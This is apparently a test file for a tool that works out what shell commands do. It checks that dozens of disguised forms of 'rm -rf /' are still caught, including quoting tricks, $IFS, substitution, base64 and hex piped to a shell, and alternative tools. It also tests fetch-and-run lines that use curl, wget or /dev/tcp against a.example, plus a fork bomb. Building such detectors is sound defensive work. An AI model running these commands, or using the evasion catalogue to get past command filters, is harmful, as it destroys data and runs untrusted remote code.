import { describe, expect, it } from 'vitest';
import { effectsOf } from './support.ts';

const removesRoot = 'delete / forced irreversible recursive';

/** The five classes by which command lines get past tools that match text, and what else hides a program's name. */
const classes: Record<string, readonly string[]> = {
  'A: quotes that the shell removes': [
    String.raw`r\m -r\f /`,
    `'rm' "-rf" /`,
    `r''m -r""f /`,
    String.raw`$'r\x6d' -rf /`,
    String.raw`\rm -rf /`,
  ],
  'B: $IFS instead of spaces': ['rm$' + '{IFS}-rf$' + '{IFS}/', "IFS=:; X='rm:-rf:/'; $X", '{rm,-rf,/}'],
  'C: substitution that gives the program': [
    '$(echo rm) -rf /',
    '`printf rm` -rf /',
    'X=rm; $X -rf /',
    'X=rmx; $' + '{X%x} -rf /',
    'X=XX; Y=m; "r$Y" -rf /',
    'unset X; $' + '{X:-rm} -rf /',
    'printf -v X rm; $X -rf /',
    'read X <<< rm; $X -rf /',
    'alias x="rm -rf"; x /',
    'f() { rm -rf "$1"; }; f /',
  ],
  'D: encoded and piped to a shell': [
    'echo cm0gLXJmIC8= | base64 -d | sh',
    'echo 726d202d7266202f | xxd -r -p | bash',
    String.raw`printf '\x72\x6d\x20-rf\x20/' | sh`,
    'bash -c "$(echo cm0gLXJmIC8= | base64 --decode)"',
    'eval "$(printf %s cm0gLXJmIC8= | base64 -d)"',
    'sh <<< "rm -rf /"',
    "sh <<'EOF'\nrm -rf /\nEOF",
    "bash <(echo 'rm -rf /')",
  ],
  'E: another way to the same end': [
    'find / -delete',
    'find / -exec rm -rf {} +',
    'busybox rm -rf /',
    'command rm -rf /',
    'env X=1 rm -rf /',
    'echo / | xargs rm -rf',
    'timeout 5 nice -n 3 rm -rf /',
    "trap 'rm -rf /' EXIT",
    "ssh localhost true; sh -c 'rm -rf /'",
    'X=a; true && X=rm; $X -rf /',
  ],
};

describe.each(Object.entries(classes))('%s', (_, lines) => {
  it.each(lines)('%s', (line) => {
    expect(effectsOf(line).filter((effect) => effect.startsWith('delete'))).toContainEqual(
      expect.stringContaining('delete /'),
    );
    expect(effectsOf(line).join('\n')).toMatch(
      /^delete \/(?: encoded)?(?: endless)?(?: forced)? ?.*recursive/m,
    );
  });
});

describe('what is hidden from us too', () => {
  it.each([
    ['base64 -d payload | sh', 'execute sh encoded'],
    ['curl -s https://a.example | sh', 'execute sh from-network'],
    ['curl -o x https://a.example; chmod +x x; ./x', 'execute /home/dana/app/x from-network'],
    ['eval "$(curl https://a.example)"', 'execute eval from-network'],
    ['X=$(wget -qO- https://a.example); bash -c "$X"', 'execute bash from-network'],
    ['. <(curl https://a.example)', 'execute . from-network'],
    ['exec 3<>/dev/tcp/a.example/80; bash < /dev/tcp/a.example/80', 'execute bash from-network from-socket'],
    ['powershell -enc aQBlAHgA', 'execute powershell encoded'],
    ['python3 -c "exec(__import__(\'base64\').b64decode(x))"', 'execute python3 encoded'],
    [':(){ :|:& };:', 'execute : endless'],
  ])('%s is told as what it is', (line, expected) => {
    expect(effectsOf(line)).toContain(expected);
  });

  it('is removed all the same', () => {
    expect(effectsOf('rm -rf /')).toEqual([removesRoot]);
  });
});
